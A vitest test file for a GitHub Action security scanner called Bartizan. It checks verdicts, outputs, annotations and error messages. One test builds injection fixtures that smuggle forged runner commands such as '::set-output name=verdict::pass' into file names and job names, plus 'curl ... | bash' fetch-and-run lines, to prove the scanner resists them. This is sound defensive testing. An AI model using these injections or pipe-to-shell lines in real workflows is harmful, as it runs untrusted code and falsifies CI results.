import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { ACTION, act, actionNode, copyExample, runAction, type RunnerResult } from './act.js';

/** Everything that the Action may say to the runner; outputs and the summary go through files. */
const COMMANDS = ['error', 'warning', 'notice', 'group', 'endgroup', 'debug', 'add-mask'];

const declared = [...readFileSync(resolve(import.meta.dirname, '../../action.yml'), 'utf8').split(/^outputs:$/m)[1]?.split(/^runs:$/m)[0]?.matchAll(/^ {2}([\w-]+):$/gm) ?? []].map(
  (match) => match[1],
);

function annotations({ commands }: RunnerResult) {
  return commands.filter(({ name, properties }) => ['error', 'warning', 'notice'].includes(name) && properties['file'] !== undefined);
}

/** Messages of the run, without a file. */
function errors({ commands }: RunnerResult): string[] {
  return commands.filter(({ name, properties }) => name === 'error' && properties['file'] === undefined).map(({ text }) => text);
}

describe.skipIf(act === undefined)('the bundled Action in a runner', () => {
  beforeAll(() => console.log(`The Action runs with Node ${actionNode()}.`));

  describe('in a vulnerable repository', () => {
    let result: RunnerResult;
    beforeAll(async () => {
      result = await runAction({ files: {}, prepare: copyExample('vulnerable') });
    });

    test('fails its step and says in one paragraph why, and where to begin', () => {
      expect(result.steps[ACTION], result.raw).toBe('failure');
      expect(result.exitCode).toBe(1);
      const [message, ...others] = errors(result);
      expect(others).toEqual([]);
      expect(message).toMatch(/^Bartizan fails: \d+ critical and \d+ high findings \(fail-on: high\)\. First: .*\.github\/workflows\/preview\.yml:\d+ \(/);
      expect(message).toContain('Reproduce: bartizan scan .');
    });

    test('sets every declared output, and none besides', () => {
      expect(Object.keys(result.outputs).toSorted()).toEqual(declared.toSorted());
      expect(result.outputs['verdict']).toBe('fail');
      expect(result.outputs['sarif-file']).toMatch(/\/bartizan\.sarif$/);
      const reasons = JSON.parse(result.outputs['reasons'] ?? '') as string[];
      expect(reasons[0]).toMatch(/reach the threshold \(fail-on: high\)/);
      const counts = ['critical', 'high', 'medium', 'low', 'note'].map((severity) => Number(result.outputs[severity]));
      expect(counts[0]).toBeGreaterThan(0);
      expect(counts.reduce((sum, count) => sum + count)).toBe(Number(result.outputs['findings']));
    });

    test('annotates lines and columns, worst first, within what GitHub shows', () => {
      const shown = annotations(result);
      expect(shown.map(({ name, properties }) => ({ name, ...properties }))).toContainEqual({
        name: 'error',
        file: '.github/workflows/triage.yml',
        line: '11',
        endLine: '11',
        col: '28',
        endColumn: '58',
        title: expect.stringContaining('critical: ') as string,
      });
      for (const kind of ['error', 'warning', 'notice']) expect(result.commands.filter(({ name }) => name === kind).length).toBeLessThanOrEqual(10);
      expect(shown[0]?.name).toBe('error');
    });

    test('writes the summary with the verdict first', () => {
      expect(result.summary).toMatch(/^## Bartizan fails: /);
      expect(result.summary).toContain('| critical |');
      expect(result.summary).toContain('.github/workflows/triage.yml:11:28');
    });
  });

  test('passes with fail-on: never, and still says what it has found', async () => {
    const result = await runAction({ files: {}, prepare: copyExample('vulnerable'), inputs: { 'fail-on': 'never' } });
    expect(result.steps[ACTION], result.raw).toBe('success');
    expect(result.exitCode).toBe(0);
    expect(errors(result)).toEqual([]);
    expect(result.outputs['verdict']).toBe('pass');
    expect(Number(result.outputs['critical'])).toBeGreaterThan(0);
    expect(annotations(result).length).toBeGreaterThan(0);
    expect(result.summary).toMatch(/^## Bartizan passes: .*fail-on: never/);
  });

  test('says nothing at a line of a repository without findings', async () => {
    const result = await runAction({ files: { 'README.md': '# Nothing\n' }, inputs: { exclude: 'action.yml' } });
    expect(result.steps[ACTION], result.raw).toBe('success');
    expect(annotations(result)).toEqual([]);
    expect(result.outputs['findings']).toBe('0');
  });

  test('names file, line and nearest word of a wrong configuration, and scans nothing', async () => {
    const result = await runAction({ files: { '.bartizan.yml': 'fail-on: hihg\n' }, prepare: copyExample('vulnerable') });
    expect(result.steps[ACTION], result.raw).toBe('failure');
    expect(result.outputs).toEqual({ verdict: 'error' });
    const message = errors(result).join('\n');
    expect(message).toMatch(/^Bartizan was not started: /);
    expect(message).toContain('.bartizan.yml:1');
    expect(message).toContain('high');
    expect(message).not.toMatch(/^\s+at /m);
    expect(annotations(result)).toEqual([]);
  });

  test('names a wrong input', async () => {
    const result = await runAction({ files: {}, inputs: { 'fail-on': 'everything' } });
    expect(result.steps[ACTION], result.raw).toBe('failure');
    expect(errors(result).join('\n')).toMatch(/^Bartizan was not started: .*fail-on/);
  });

  test('text and paths of the repository give no commands', async () => {
    const forged = ['::set-output name=verdict::pass', '::stop-commands::x', '::error file=forged.yml::forged', '##[error]forged', '##vso[task.complete result=Succeeded;]', '::add-mask::a'];
    const job = (text: string) => ({
      name: text,
      'runs-on': 'ubuntu-latest',
      steps: [
        { name: text, uses: `${text.replace(/[^\w]/g, '')}/action@main` },
        { name: text, run: `echo "\${{ github.event.issue.title || '${text}' }}"\n${text}\ncurl https://example.com/${encodeURIComponent(text)} | bash\n` },
        { name: `a\n${text}`, run: `${text}\n\${{ github.event['${text}'] }}\n` },
      ],
    });
    const workflow = JSON.stringify({ name: `a\n${forged.join('\n')}`, on: 'issues', jobs: Object.fromEntries(forged.map((text, index) => [`job${index}`, job(text)])) }, null, 1);
    const broken = 'on: push\njobs: {\n::error::forged\n';
    const composite = 'name: ::error::forged\nruns:\n  using: composite\n  steps:\n    - uses: a/b@main\n    - shell: bash\n      run: curl https://a.example | sh\n';
    const result = await runAction({
      files: {
        '.github/workflows/forged.yml': workflow,
        '.github/workflows/broken.yml': broken,
        '.github/workflows/%0A::error::forged.yml': workflow,
        // At the top of the repository, so that the line in the log begins with it.
        '::set-output name=verdict::pass/action.yml': composite,
        '::stop-commands::x/action.yml': composite,
        '##[error]forged/action.yml': composite,
        'a\n::error::forged/action.yml': composite,
      },
    });
    expect(result.steps[ACTION], result.raw).toBe('failure');
    expect(result.outputs['verdict']).toBe('fail');
    expect(Number(result.outputs['findings'])).toBeGreaterThan(10);
    expect(Object.keys(result.outputs).filter((name) => !declared.includes(name))).toEqual([]);
    expect(result.commands.filter(({ name }) => !COMMANDS.includes(name))).toEqual([]);
    expect(result.commands.filter(({ text, properties }) => text === 'forged' || properties['file'] === 'forged.yml')).toEqual([]);
    expect(result.log.filter((line) => /^\s*::|##\w*\[/.test(line))).toEqual([]);
    // Quoted, so that a person sees what was tried.
    expect(result.log.some((line) => line.startsWith(': :stop-commands::x/action.yml:5:'))).toBe(true);
  });
});
